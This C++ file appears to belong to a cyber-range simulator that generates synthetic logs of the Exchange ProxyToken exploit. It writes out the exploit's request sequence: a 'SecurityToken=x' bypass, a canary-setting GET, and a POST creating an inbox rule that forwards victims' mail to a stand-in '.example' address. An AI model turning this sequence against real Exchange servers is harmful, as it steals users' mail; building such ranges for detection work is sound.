#include "range/proxytoken_intruder.h"

#include <fmt/format.h>

namespace afterpatch::range {

Request ProxyTokenIntruder::token_request(const std::string& method, const std::string& page,
                                          const std::string& query, int status) {
  Request request = AttackRun::request(App::ecp, method, page);
  request.query = query + (query.empty() ? "" : "&") + "SecurityToken=x";
  request.user_agent = "python-requests/2.26.0";
  request.authentication = "FBA";
  request.target_server = story_.server.fqdn;
  request.status = request.backend_status = status;
  return request;
}

// The first answer is an error, but sets the canary that the second request needs.
void ProxyTokenIntruder::make_rule(const User& user) {
  const std::string canary = random_.text("abcdefghijklmnopqrstuvwxyz0123456789-_", 75) + ".";
  give(token_request("GET", fmt::format("/ecp/{}/PersonalSettings/HomePage.aspx", user.address),
                     "showhelp=false", 404));
  wait(500, 3000);
  Request rule =
      token_request("POST", fmt::format("/ecp/{}/RulesEditor/InboxRules.svc/NewObject", user.address),
                    "msExchEcpCanary=" + canary, random_.chance(50) ? 500 : 200);
  story_.events.commands.push_back(
      {now_ - std::chrono::milliseconds(30), random_.between(40, 900), random_.guid(),
       fmt::format("New-InboxRule.ForwardTo='archive@{}.example'.Name='{}'.Mailbox='{}'", random_.hex(6),
                   random_.hex(4), user.address),
       rule.stem + "?" + rule.query, ""});
  story_.mailboxes.push_back({user.address, client_, 1, now_, now_, story_.campaign});
  give(std::move(rule));
  wait(1500, 9000);
}

void ProxyTokenIntruder::forward_mail(Timestamp start, std::size_t mailboxes) {
  begin(start);
  const auto first = static_cast<std::size_t>(random_.below(story_.server.users.size() - mailboxes));
  for (std::size_t i = 0; i < mailboxes; ++i) make_rule(story_.server.users[first + i]);
  end_run("exploited");
}

}  // namespace afterpatch::range
